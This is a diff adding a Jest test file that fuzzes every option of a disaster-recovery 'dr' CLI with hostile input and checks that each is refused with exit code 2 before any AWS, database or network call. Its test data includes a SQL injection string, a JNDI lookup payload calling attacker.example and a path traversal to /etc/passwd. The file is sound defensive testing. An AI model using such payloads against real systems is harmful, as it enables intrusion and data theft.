@@ -1,0 +1,274 @@
+import { join } from 'node:path';
+import { Client } from 'pg';
+import { runCli, type CliIo } from '../../lib/cli/program';
+
+/**
+ * Bad input on the command line: every option of every `dr` command replaced in turn with malformed,
+ * oversized and hostile values, left out when required, and joined by an unknown option. Each must end with
+ * exit code 2 and a message naming the option, before any AWS call, database connection or network request,
+ * and without echoing a password.
+ */
+const HOSTILE = [
+  "x'; DROP TABLE account; --",
+  'postgresql://admin:hunter2@db.example.org:5432/app',
+  '../../etc/passwd',
+  'a\u0000b',
+  'line\nbreak',
+  '${jndi:ldap://attacker.example/x}',
+  '',
+];
+const OVERSIZED = 'x'.repeat(100_000);
+const NUMBERS = ['-1', '0', '1e15', '99999999999999999999', 'soon', '1.5', ''];
+
+interface CliTarget {
+  readonly name: string;
+  readonly argv: readonly string[];
+  /** Options taking numbers. */
+  readonly numeric: readonly string[];
+  readonly required: readonly string[];
+  /** Hostile values that are legitimate for an option (e.g. a database URL for --database-url). */
+  readonly legitimate?: Readonly<Record<string, readonly string[]>>;
+}
+
+const EXAMPLES = join(__dirname, '..', '..', 'examples', 'prisma', 'migrations');
+const DATABASE_URL = 'postgresql://app:Pw-Local-1@127.0.0.1:1/app';
+const migrations = (command: string, extra: string[] = []): CliTarget => ({
+  name: `dr migrations ${command}`,
+  argv: [
+    'migrations',
+    command,
+    '--database-url',
+    DATABASE_URL,
+    '--dir',
+    EXAMPLES,
+    '--schema',
+    'public',
+    '--lock-timeout',
+    '5000',
+    ...extra,
+  ],
+  numeric: ['--lock-timeout'],
+  required: [],
+  legitimate: {
+    '--database-url': ['postgresql://admin:hunter2@db.example.org:5432/app'],
+    // A folder path is only read; these name folders without migrations, refused as such (see below).
+    '--dir': ['../../etc/passwd', "x'; DROP TABLE account; --", '${jndi:ldap://attacker.example/x}'],
+  },
+});
+const drillCommon = [
+  '--stack',
+  'pg-dr-orchestration',
+  '--schedule-rule',
+  'pg-dr-weekly-failover-drill',
+  '--state-machine-arn',
+  'arn:aws:states:us-east-1:111122223333:stateMachine:pg-dr-failover-drill',
+  '--region',
+  'us-east-1',
+];
+
+const TARGETS: CliTarget[] = [
+  {
+    name: 'dr migrate',
+    argv: [
+      'migrate',
+      '--blue-db-secret',
+      'pg-dr/blue',
+      '--green-db-secret',
+      'arn:aws:secretsmanager:us-east-1:111122223333:secret:pg-dr/green-AbCdEf',
+      '--blue-endpoint',
+      'blue.abc.us-west-2.rds.amazonaws.com',
+      '--green-endpoint',
+      'green.def.us-west-2.rds.amazonaws.com',
+      '--dns-zone',
+      'Z0EXAMPLE12345',
+      '--dns-record',
+      'db.provability-fabric.org',
+      '--dns-set-identifier',
+      'db.provability-fabric.org-primary',
+      '--dns-secondary-set-identifier',
+      'db.provability-fabric.org-secondary',
+      '--smoke-test-url',
+      'https://api.provability-fabric.org/health',
+      '--subscription',
+      'dr_blue_green',
+      '--catch-up-timeout',
+      '30000',
+      '--rebuild-dr',
+      '--green-instance-id',
+      'green',
+      '--dr-replica-instance-id',
+      'green-dr',
+      '--state-machine-arn',
+      'arn:aws:states:us-east-1:111122223333:stateMachine:pg-dr-blue-green-migration',
+      '--stack',
+      'pg-dr-orchestration',
+      '--region',
+      'us-east-1',
+      '--execution-name',
+      'migrate-manual-1',
+      '--poll-interval',
+      '1000',
+      '--timeout',
+      '60000',
+    ],
+    numeric: ['--catch-up-timeout', '--poll-interval', '--timeout'],
+    required: ['--blue-db-secret', '--green-db-secret', '--dns-zone', '--dns-record'],
+    legitimate: { '--blue-db-secret': ['../../etc/passwd'], '--green-db-secret': ['../../etc/passwd'] },
+  },
+  {
+    name: 'dr drill',
+    argv: [
+      'drill',
+      ...drillCommon,
+      '--execution-name',
+      'manual-1',
+      '--poll-interval',
+      '1000',
+      '--timeout',
+      '60000',
+    ],
+    numeric: ['--poll-interval', '--timeout'],
+    required: [],
+  },
+  { name: 'dr drill restore', argv: ['drill', 'restore', ...drillCommon], numeric: [], required: [] },
+  {
+    name: 'dr status',
+    argv: ['status', ...drillCommon, '--limit', '5'],
+    numeric: ['--limit'],
+    required: [],
+  },
+  migrations('plan'),
+  migrations('status'),
+  migrations('apply'),
+  migrations('resolve', ['--rolled-back', '20240201000000_index_orders_created_at']),
+  migrations('resolve', ['--applied', '20240201000000_index_orders_created_at']),
+];
+
+interface Case {
+  readonly option: string;
+  readonly kind: string;
+  readonly argv: readonly string[];
+}
+
+/** The option names of an argv (`--x` followed by a value, or a flag alone). */
+function optionsOf(argv: readonly string[]): { option: string; valueAt?: number }[] {
+  const out: { option: string; valueAt?: number }[] = [];
+  argv.forEach((arg, i) => {
+    if (!arg.startsWith('--')) return;
+    const next = argv[i + 1];
+    out.push(
+      next !== undefined && !next.startsWith('--') ? { option: arg, valueAt: i + 1 } : { option: arg },
+    );
+  });
+  return out;
+}
+
+function cases(target: CliTarget): Case[] {
+  const out: Case[] = [];
+  const replaced = (at: number, value: string) => target.argv.map((a, i) => (i === at ? value : a));
+  for (const { option, valueAt } of optionsOf(target.argv)) {
+    if (valueAt === undefined) continue;
+    const values = target.numeric.includes(option)
+      ? [...NUMBERS, OVERSIZED]
+      : [...HOSTILE, OVERSIZED].filter((v) => !(target.legitimate?.[option] ?? []).includes(v));
+    for (const value of values)
+      out.push({
+        option,
+        kind: `value ${JSON.stringify(value.slice(0, 40))}`,
+        argv: replaced(valueAt, value),
+      });
+  }
+  for (const option of target.required) {
+    const at = target.argv.indexOf(option);
+    out.push({
+      option,
+      kind: 'missing',
+      argv: target.argv.filter((_a, i) => i !== at && i !== at + 1),
+    });
+  }
+  out.push({ option: '--sneaky', kind: 'unknown option', argv: [...target.argv, '--sneaky', '1'] });
+  return out;
+}
+
+describe('bad input on the command line: every option of every dr command', () => {
+  const calls: string[] = [];
+  const refusing = (service: string) => ({
+    // Like the SDK: a rejected promise, never a synchronous throw.
+    send: (): Promise<never> => {
+      calls.push(service);
+      return Promise.reject(new Error('bad input must be rejected before any AWS call'));
+    },
+  });
+  const connects = jest.spyOn(Client.prototype, 'connect').mockImplementation((): never => {
+    calls.push('postgres');
+    throw new Error('bad input must be rejected before connecting');
+  });
+  const fetches = jest.spyOn(globalThis, 'fetch').mockImplementation((): never => {
+    calls.push('fetch');
+    throw new Error('bad input must be rejected before any request');
+  });
+  afterAll(() => {
+    connects.mockRestore();
+    fetches.mockRestore();
+  });
+
+  async function dr(argv: readonly string[]) {
+    let out = '';
+    let err = '';
+    const write = (text: string) => {
+      out += text;
+    };
+    const follow = { out: write, now: () => 0, sleep: () => Promise.resolve() };
+    const io: CliIo = {
+      out: write,
+      err: (text) => {
+        err += text;
+      },
+      env: {},
+      migrateIo: () => ({ ...follow, sfn: refusing('sfn'), cloudFormation: refusing('cloudformation') }),
+      drillIo: () => ({
+        ...follow,
+        sfn: refusing('sfn'),
+        cloudFormation: refusing('cloudformation'),
+        events: refusing('events'),
+        route53: refusing('route53'),
+      }),
+    };
+    const code = await runCli(argv, io);
+    return { code, out, err };
+  }
+
+  let tried = 0;
+  afterAll(() => {
+    // The count the README quotes.
+    process.stderr.write(`CLI bad-input cases tried: ${tried}\n`);
+    expect(tried).toBeGreaterThan(300);
+  });
+
+  it.each(TARGETS.map((t) => [t.name, t] as const))(
+    '%s: every bad option value ends with exit 2, naming the option, touching nothing',
+    async (_name, target) => {
+      // The valid command line passes the checks and fails only at the refused call.
+      calls.length = 0;
+      const valid = await dr(target.argv);
+      expect(valid.code).toBe(1);
+      expect(calls.length).toBeGreaterThan(0);
+
+      const wrong: string[] = [];
+      for (const c of cases(target)) {
+        tried += 1;
+        calls.length = 0;
+        const result = await dr(c.argv);
+        const said = result.err + result.out;
+        if (result.code !== 2)
+          wrong.push(`${c.option} ${c.kind}: exit ${result.code}: ${said.slice(0, 200)}`);
+        else if (!said.includes(c.option))
+          wrong.push(`${c.option} ${c.kind}: message does not name it: ${said}`);
+        if (calls.length > 0) wrong.push(`${c.option} ${c.kind}: called ${calls.join(', ')}`);
+        expect(said).not.toContain('hunter2');
+        expect(said).not.toContain('Pw-Local-1');
+      }
+      expect(wrong).toEqual([]);
+    },
+  );
+});
